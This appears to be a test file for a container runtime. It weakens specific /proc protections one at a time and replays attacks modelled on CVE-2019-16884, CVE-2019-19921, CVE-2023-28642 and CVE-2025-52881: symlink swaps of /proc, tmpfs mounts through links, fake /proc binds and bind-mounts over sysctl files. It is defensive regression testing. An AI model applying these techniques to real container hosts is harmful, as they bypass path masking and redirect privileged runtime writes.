/**
 * Deceptions about /proc: CVE-2019-16884, CVE-2019-19921, CVE-2023-28642 and
 * CVE-2025-52881. Masks are to miss it, or writes of the runtime to go elsewhere.
 */
import { until } from "./command.ts";
import { exists } from "./host.ts";
import { type Change, play, type Runtime } from "./weakened.ts";

const SH = { path: "/bin/sh", env: ["PATH=/usr/bin:/bin"] };

/** Lines of a text that are not empty. */
function lines(text: string): string[] {
  return text.split("\n").filter((line) => line !== "");
}

play({
  name: "a /proc that is a link until the masks are there",
  protection: "the demand for an ordinary directory",
  changes: [{
    file: "lib/mounts/open_mount_target.ts",
    from: 'ORDINARY_TYPES: readonly string[] = ["proc", "sysfs"]',
    to: "ORDINARY_TYPES: readonly string[] = []",
  }],
  async attack(runtime) {
    const script = "head -c 5 /evil/timer_list; echo; head -c 5 /evil/version";
    const { stdout } = await runtime.sh(script, (spec, { rootfs }) => {
      Deno.removeSync(`${rootfs}/proc`);
      Deno.mkdirSync(`${rootfs}/evil`);
      Deno.symlinkSync("evil", `${rootfs}/proc`);
      // An accomplice who shares the root file system; here a hook, for its sense of time.
      const swap = `rm ${rootfs}/proc && mkdir ${rootfs}/proc`;
      spec.hooks = { createRuntime: [{ ...SH, args: ["sh", "-c", swap] }] };
    });
    return lines(stdout);
  },
});

play({
  name: "a mount inside of /proc by way of a link",
  protection: "the look at the mount point's own mount",
  changes: [{
    file: "lib/mounts/open_mount_target.ts",
    from: "if (context.procStat !== undefined && !mayCover)",
    to: "if (false)",
  }],
  async attack(runtime) {
    const script = "awk '$5 ~ \"^/proc/\" { print $5 }' /proc/self/mountinfo";
    const { stdout } = await runtime.sh(script, (spec, { rootfs }) => {
      Deno.symlinkSync("/proc/self", `${rootfs}/link`);
      const tmpfs = { type: "tmpfs", source: "tmpfs" };
      spec.mounts.push({ destination: "/link/attr", ...tmpfs });
      spec.linux.maskedPaths = [];
      spec.linux.readonlyPaths = [];
    });
    return lines(stdout);
  },
});

play({
  name: "a folder in the place of /proc",
  protection: "the look at its file system",
  changes: [{
    file: "lib/mounts/bind.ts",
    from: 'if (plan.destination === "/proc") requireProc(b, source);',
    to: "",
  }],
  async attack(runtime) {
    const { stdout } = await runtime.sh("cat /proc/fake", (spec, bundle) => {
      bundle.file("proc/fake", "not from the kernel\n");
      const bind = { type: "bind", options: ["bind"] };
      spec.mounts = spec.mounts.filter((one) => one.destination !== "/proc");
      spec.mounts.unshift({ destination: "/proc", source: "proc", ...bind });
    });
    return lines(stdout);
  },
});

// ---- sysctls in a mount namespace that somebody has prepared -----------------------------------------------------

const FILE = "sys/net/ipv4/ip_forward";

/** Has a container join namespaces in which a script has run, and set a sysctl. */
async function joinPrepared(
  runtime: Runtime,
  script: string,
): Promise<void> {
  const { box } = runtime;
  const ready = `${box.dir}/ready`;
  const whole = `set -e; ${script}; touch ${ready}; exec sleep 1000`;
  const unshare = "unshare --net --mount --propagation private".split(" ");
  const holder = box.spawn([...unshare, "sh", "-c", whole]);
  try {
    await until(() => exists(ready), "a prepared mount namespace");
    await runtime.sh("true", (spec) => {
      spec.linux.sysctl = { "net.ipv4.ip_forward": "1" };
      for (const namespace of spec.linux.namespaces) {
        const { type } = namespace;
        if (type === "mount") namespace.path = `/proc/${holder.pid}/ns/mnt`;
        // Only there it is the same file.
        if (type === "network") namespace.path = `/proc/${holder.pid}/ns/net`;
      }
    });
  } finally {
    holder.kill("SIGKILL");
    await holder.result();
  }
}

const NO_CROSSING: Change = {
  file: "lib/procfs/write.ts",
  from: "resolve: RESOLVE_BENEATH | RESOLVE_NO_XDEV | RESOLVE_NO_MAGICLINKS |",
  to: "resolve: RESOLVE_BENEATH | RESOLVE_NO_MAGICLINKS |",
};
const PROCFS: Change = {
  file: "lib/procfs/write.ts",
  from: "b.test(word(status), -1, PROC_SUPER_MAGIC, ERRNO.ENOTDIR);",
  to: "",
};

for (
  const [name, protection, changes, script] of [
    [
      "a file mounted over a sysctl",
      "RESOLVE_NO_XDEV",
      [NO_CROSSING],
      (dir: string) => `mount --bind ${dir}/${FILE} /proc/${FILE}`,
    ],
    [
      "a folder mounted over /proc",
      "the look at its file system",
      [PROCFS],
      (dir: string) => `mount --bind ${dir} /proc`,
    ],
  ] as const
) {
  play({
    name: `${name} takes the runtime's writes`,
    protection,
    changes,
    async attack(runtime) {
      const dir = `${runtime.box.dir}/fake`;
      Deno.mkdirSync(`${dir}/${FILE.replace(/[^/]*$/, "")}`, {
        recursive: true,
      });
      Deno.writeTextFileSync(`${dir}/${FILE}`, "");
      await joinPrepared(runtime, script(dir));
      return lines(Deno.readTextFileSync(`${dir}/${FILE}`));
    },
  });
}
